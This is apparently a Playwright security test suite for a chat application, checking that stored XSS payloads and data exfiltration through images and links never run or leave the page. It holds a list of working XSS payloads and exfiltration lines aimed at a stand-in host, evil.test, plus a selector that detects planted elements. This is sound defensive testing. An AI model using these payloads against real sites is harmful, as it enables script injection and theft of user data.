/** Stored scripts (S3) and data carried out by pictures and links (S5), in a real browser. */
import type { Page } from '@playwright/test';
import { signUp } from '#test/harness/accounts.ts';
import { atRest, ChatPage, expect, test } from './harness/story.ts';

/** Each of them calls `alert` or fetches `evil.test` if it runs anywhere. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><svg/onload=alert(1)>',
  '"><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
  '[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:alert(1))',
  '[entity](&#106;avascript:alert(1)) [tab](java\tscript:alert(1)) <javascript:alert(1)>',
  '![out](https://evil.test/?secret) ![js](javascript:alert(1)) ![data](data:image/svg+xml,<svg onload=alert(1)>)',
  '![ref][r]\n\n[r]: https://evil.test/ref "t"',
  '```"><img src=x onerror=alert(1)>\ncode </code></pre><script>alert(1)</script>\n```',
  '```html\n<img src=x onerror=alert(1)><script>alert(1)</script>\n```',
  '```js onload=alert(1) class="x"\nalert(`</script><script>alert(1)</script>`)\n```',
  '<style>@import "https://evil.test/css"; body{background:url(https://evil.test/bg)}</style>',
  '<link rel=prefetch href=https://evil.test/p><meta http-equiv=refresh content="0;url=https://evil.test">',
  '<base href="https://evil.test/"><form action="https://evil.test"><button>go</button></form>',
  '<math><mtext></table><mglyph><style><img src=x onerror=alert(1)></style></math>',
  '|a|\n|-|\n|<img src=x onerror=alert(1)>|',
  '{{constructor.constructor("alert(1)")()}} <%= alert(1) %>',
];

/** Watches for anything that runs or leaves. */
async function watch(page: Page): Promise<string[]> {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.exposeFunction('tellAlert', (words: string) => void seen.push(`alert: ${words}`));
  await page.addInitScript(() => {
    window.alert = (words) =>
      void (window as unknown as { tellAlert(words: string): void }).tellAlert(String(words));
  });
  // Every change of the page is looked at, so that nothing is there even for a moment.
  await page.addInitScript((selector) => {
    new MutationObserver(() => {
      const found = document.querySelector(selector);
      if (found) void (window as unknown as { tellAlert(words: string): void }).tellAlert(found.outerHTML);
    }).observe(document, { childList: true, subtree: true, attributes: true });
  }, PLANTED);
  await page.route(/evil\.test/, (route) => {
    seen.push(`request: ${route.request().url()}`);
    return route.abort();
  });
  page.on('framenavigated', (frame) => {
    if (!/^(http:\/\/(127\.0\.0\.1|localhost)|about:blank)/.test(frame.url()))
      seen.push(`navigated: ${frame.url()}`);
  });
  return seen;
}

/** Elements that could only come from an attack; windows and menus hang from the body. */
const PLANTED = `body :is(script:not([type="module"][src]), iframe, object, embed, form[action], base, link, meta, style, math,
  [onerror], [onload], [onfocus], [href^="javascript:" i], [href^="data:" i], [href^="vbscript:" i], img[src^="http"])`;
const planted = (page: Page) => page.locator(PLANTED).count();

test('what a model writes runs nowhere, at any point of its stream', async ({ page, chat }) => {
  test.setTimeout(120_000);
  const seen = await watch(page);
  await chat.open();
  for (const attack of [ATTACKS.slice(0, 9).join('\n\n'), ATTACKS.slice(9).join('\n\n')]) {
    // One character at a time: every split of every attack is drawn once.
    await chat.send(`Attack\n/script drip=4 text=${JSON.stringify(attack)}`);
    await chat.hasState('completed', 60_000);
    expect(seen).toEqual([]);
  }
  await atRest(page);
  expect(await planted(page)).toBe(0);
  await page.reload();
  await chat.hasState('completed');
  await atRest(page);
  expect(seen).toEqual([]);
});

test('what a person writes, and names, runs nowhere either', async ({ page, chat }) => {
  const seen = await watch(page);
  await chat.open();
  await chat.send(`${ATTACKS.join('\n')}\n/script text="ok" rate=0`);
  await chat.hasState('completed');
  for (const attack of ATTACKS.slice(0, 5)) {
    const answer = await page.request.patch(`/api/v1/chats/${chat.chatId}`, {
      data: {
        title: attack,
        description: attack,
        tags: [attack.slice(0, 60)],
        metadata: { [attack]: attack },
      },
    });
    expect(answer.ok()).toBe(true);
    await expect(page.locator('header h1')).toHaveText(attack);
  }
  await page.locator('header').getByRole('button', { name: 'Chat actions' }).click();
  await page.getByRole('menuitem', { name: 'Details' }).click();
  await expect(page.getByRole('complementary', { name: 'Chat details' })).toBeVisible();
  expect(await planted(page)).toBe(0);
  await page.reload();
  await chat.hasState('completed');
  expect(await planted(page)).toBe(0);
  expect(seen).toEqual([]);
});

test('what members call and tell one another in projects and agents runs nowhere', async ({
  visit,
  server,
}) => {
  test.setTimeout(120_000);
  const [ada, bob] = [await signUp(server.url, { name: ATTACKS[4]! }), await signUp(server.url)];
  const post = async (path: string, json: object, method = 'POST') => {
    const answer = await ada.fetch(`/api/v1${path}`, { method, json });
    expect([path, answer.status]).toEqual([path, method === 'POST' ? 201 : 200]);
    return answer.json();
  };
  const text = ATTACKS.join('\n');
  const [projects, agents] = [[] as string[], [] as string[]];
  for (const attack of ATTACKS.slice(0, 5)) {
    const said = { name: attack, description: attack, instructions: text };
    const project = await post('/projects', said);
    await post(`/projects/${project.id}/members/${bob.userId}`, { role: 'viewer' }, 'PUT');
    projects.push(project.id);
    const starters = [attack, text.slice(0, 300)];
    const scope = { scope: 'project', projectId: project.id };
    const agent = await post('/agents', { ...said, ...scope, starters, icon: '<b>' });
    await post(`/agents/${agent.id}`, { instructions: `${text}\n${text}`, name: `${attack} ` }, 'PATCH');
    agents.push(agent.id);
  }
  const [projectId, agentId] = [projects[0]!, agents[0]!];
  const { token } = await post(`/projects/${projectId}/invites`, { role: 'viewer' });

  const page = await visit({ as: bob });
  const seen = await watch(page);
  const isSafe = async (what: string) => {
    await atRest(page);
    expect([what, await planted(page), seen]).toEqual([what, 0, []]);
  };
  for (const path of [
    '/',
    '/agents',
    `/agents/${agentId}`,
    `/agents/${agentId}/1`,
    '/projects',
    ...['', '/agents', '/instructions', '/members', '/settings'].map((tab) => `/projects/${projectId}${tab}`),
    `/join/${token}`,
    `/join/${encodeURIComponent(ATTACKS[1]!)}`,
    `/?project=${encodeURIComponent(ATTACKS[1]!)}&agent=${encodeURIComponent(ATTACKS[4]!)}`,
    `/agents/${encodeURIComponent(ATTACKS[1]!)}`,
  ]) {
    await page.goto(path);
    await expect(page.locator('main h1').first()).toBeAttached();
    await isSafe(path);
  }
  // Versions side by side, as whoever may write sees them.
  const writer = await visit({ as: ada });
  const seenByWriter = await watch(writer);
  for (const path of [`/agents/${agentId}`, `/projects/${projectId}/instructions`]) {
    await writer.goto(path);
    await writer.getByRole('button', { name: 'Versions' }).click();
    await writer
      .getByRole('button', { name: /^Compare version/ })
      .last()
      .click();
    await atRest(writer);
    expect([path, await planted(writer), seenByWriter]).toEqual([path, 0, []]);
  }
});

test('what waits, who is called and what is compared runs nowhere', async ({ visit, server }) => {
  test.setTimeout(120_000);
  const ada = await signUp(server.url, { name: 'Ada' });
  for (const attack of ATTACKS.slice(0, 5))
    await ada.fetch('/api/v1/agents', {
      method: 'POST',
      json: { name: attack, description: attack, starters: [attack] },
    });
  const page = await visit({ as: ada });
  const seen = await watch(page);
  const chat = new ChatPage(page);
  const isSafe = async (what: string) => {
    await atRest(page);
    expect([what, await planted(page), seen]).toEqual([what, 0, []]);
  };
  await chat.open();
  const card = page.getByRole('list', { name: 'Agents' }).getByRole('button').first();
  await card.click();
  await isSafe('starters');
  await chat.composer.pressSequentially('@<');
  await expect(page.getByRole('listbox', { name: 'Agents to answer this message' })).toBeVisible();
  await isSafe('agents that are offered');
  await page.keyboard.press('Enter');
  await expect(page.locator('[data-once]')).toBeVisible();
  await isSafe('the agent that is called');
  await page.reload();
  await expect(page.locator('[data-once]')).toBeVisible();
  await isSafe('the same, as it was kept');
  await chat.send('First\n/script tokens=2000 rate=40');
  await chat.hasWritten(20);
  for (const attack of ATTACKS.slice(0, 3)) {
    await chat.composer.fill(attack);
    await chat.composer.press('Enter');
  }
  const rows = page.locator('[data-outbox]');
  await expect(rows).toHaveCount(3);
  await isSafe('what waits');
  await rows.first().getByRole('button', { name: 'Edit' }).click();
  await isSafe('what waits, while it is changed');
  await page.getByRole('textbox', { name: 'Your message' }).press('Escape');
  await page.getByRole('button', { name: 'Stop', exact: true }).click();
  await expect(page.getByRole('region', { name: 'Waiting for you' })).toBeVisible();
  await isSafe('what is held');

  await page.locator('header').getByRole('button', { name: 'Chat actions' }).click();
  await page.getByRole('menuitem', { name: 'Settings' }).click();
  await isSafe('what the next reply is made with');
  await page.keyboard.press('Escape');
  await page
    .locator('header')
    .getByRole('button', { name: /^Agent: / })
    .click();
  await isSafe('the agents to choose from');
  await page.keyboard.press('Escape');

  const sent = await ada.fetch('/api/v1/messages', {
    method: 'POST',
    json: {
      chat: {},
      message: {
        content: `${ATTACKS[0]}\n/script rate=0 text=${JSON.stringify(ATTACKS.slice(0, 9).join('\n\n'))}`,
        modelIds: ['scripted/demo', 'scripted/fast'],
      },
    },
  });
  const { message } = await sent.json();
  await page.goto(`/c/${message.chatId}`);
  await page.getByRole('button', { name: 'I prefer this' }).first().click();
  await page.getByRole('button', { name: 'Say why' }).click();
  await page.getByRole('textbox', { name: 'Why?' }).fill(ATTACKS[1]!);
  await page.getByRole('button', { name: 'Save' }).click();
  await isSafe('what is compared');
  await page.locator('header').getByRole('button', { name: 'Chat actions' }).click();
  await page.getByRole('menuitem', { name: 'Overview' }).click();
  await expect(page.getByRole('tree')).toBeVisible();
  await isSafe('the overview');
});

test('a thought, a failure and a tool of a hostile model run nowhere', async ({ page, chat }) => {
  const seen = await watch(page);
  await chat.open();
  const attack = ATTACKS[1]!;
  await chat.send(`${attack}\n/script reasoning=5 tokens=3 rate=0 fail=end code=endpoint_error`);
  await chat.hasState('failed');
  await chat.send(
    `${attack}\n/script rate=0 text="x" tool=${JSON.stringify(attack)} arguments=${JSON.stringify(attack)}`,
  );
  await expect(chat.replies).toHaveCount(2);
  await expect(chat.reply).not.toHaveAttribute('data-state', /running|queued|unknown/);
  expect(await planted(page)).toBe(0);
  expect(seen).toEqual([]);
});

test('what is at a link runs nothing and asks for nothing, whatever was said, thought and named', async ({
  page,
  chat,
  visit,
  server,
}) => {
  await chat.open();
  await chat.send(
    `${ATTACKS.join('\n')}\n/script reasoning=3 rate=0 text=${JSON.stringify(ATTACKS.join('\n\n'))}`,
  );
  await chat.hasState('completed');
  const address = `/api/v1/chats/${chat.chatId}`;
  await page.request.patch(address, { data: { title: ATTACKS.slice(0, 3).join(' ') } });
  // A model may think what it likes.
  await server.database.db.$client.query(
    `UPDATE messages SET content = jsonb_set(content, '{0,text}', to_jsonb($2::text)) WHERE chat_id = $1 AND role = 'assistant'`,
    [chat.chatId, ATTACKS.join('\n\n')],
  );
  const made = await page.request.post(`${address}/shares`, { data: { includeReasoning: true } });
  const { url } = (await made.json()) as { url: string };
  const reader = await visit();
  const seen = await watch(reader);
  await reader.goto(url);
  await expect(reader.getByRole('heading', { level: 1 })).toContainText('<script>alert(1)</script>');
  await reader.getByRole('button', { name: 'Thoughts' }).click();
  await expect(reader.locator('[data-role="assistant"]')).toContainText('constructor.constructor');
  await atRest(reader);
  expect(await planted(reader)).toBe(0);
  const picture = reader.getByRole('link', { name: 'from evil.test' }).first();
  await expect(picture).toHaveAttribute('rel', /noopener/);
  await expect(picture).toHaveAttribute('rel', /noreferrer/);
  expect(seen).toEqual([]);
});

test('a remote picture is not fetched, and its place names its host', async ({ page, chat }) => {
  const seen = await watch(page);
  await chat.open();
  await chat.send('Picture\n/script rate=0 text="![a cat](https://evil.test/cat.png?q=secret)"');
  await chat.hasState('completed');
  await expect(
    chat.reply.getByRole('button', { name: 'Show the image “a cat” from evil.test' }),
  ).toBeVisible();
  await atRest(page);
  expect(seen).toEqual([]);
});

test('the page is served with a policy that would stop a script that got through', async ({ page, chat }) => {
  await chat.open();
  const refused = await page.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        const refusals: string[] = [];
        addEventListener('securitypolicyviolation', (event) => {
          refusals.push(event.violatedDirective);
          if (refusals.includes('script-src-elem') && refusals.includes('img-src'))
            resolve([...refusals, String('ran' in window)]);
        });
        const script = document.createElement('script');
        script.textContent = 'window.ran = true';
        document.body.append(script);
        const picture = document.createElement('img');
        picture.src = 'https://evil.test/x.png';
        document.body.append(picture);
      }),
  );
  expect(refused).toContain('script-src-elem');
  expect(refused).toContain('img-src');
  expect(refused.at(-1)).toBe('false');
});
